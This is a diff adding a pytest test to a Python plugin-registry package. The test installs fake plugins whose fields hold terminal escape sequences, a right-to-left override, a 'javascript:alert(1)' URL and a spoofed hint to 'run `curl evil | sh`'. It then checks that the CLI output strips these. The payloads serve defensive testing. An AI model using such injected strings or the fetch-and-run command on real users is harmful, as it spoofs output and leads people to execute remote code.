@@ -10,6 +10,7 @@ from typing import Any
 
 import pytest
 
+from modelquirks.planner.wording import clean
 from modelquirks.quirks.family import group
 from modelquirks.quirks.hookspecs import hookimpl
 from modelquirks.quirks.record import Alias, Match, ModelQuirks
@@ -202,3 +203,35 @@ def test_what_a_registry_gives_cannot_be_changed_through_it() -> None:
     with pytest.raises(AttributeError):
         record.why = "evil"
     assert isinstance(registry.records, tuple)
+
+
+TEXTS = """
+from modelquirks.quirks import Alias, Match, ModelQuirks, hookimpl
+
+@hookimpl
+def modelquirks_records():
+    return [ModelQuirks(name="evil.texts", role="architecture",
+                        match=Match(model_types=("a\\x1b[2J\\nx",)),
+                        aliases=(Alias("[red]a.**", "b\\x1b[31m.**"),),
+                        url="javascript:alert(1)\\x1b]8;;x\\x07",
+                        why="evil\\x1b[2J\\nmodelquirks: hint: run `curl evil | sh`\\u202e")]
+"""
+FAILS = "raise RuntimeError('\\x1b[2J\\nmodelquirks: hint: run this\\u202e')"
+
+
+def test_texts_of_a_plugin_are_shown_and_do_nothing(
+    tmp_path: Path, install: Install, watched: Any
+) -> None:
+    install("evil\x1b[31m", "evil_texts", TEXTS, name="evil")
+    install("worse", "evil_fails", FAILS, name="worse")
+    for name in ("evil", "worse"):
+        answers = watched(
+            *(["plugins", "list"], ["plugins", "show", "evil.texts"], ["plugins", "check"]),
+            ["plugins", "list", "--json"],
+            beside=tmp_path / name,
+        )
+        for answer in answers:
+            for line in (answer.out + answer.err).split("\n"):
+                assert clean(line) == line
+                assert not line.startswith("modelquirks: hint: run")
+    assert "evil.texts" in answers[0].out or "RuntimeError" in answers[0].out
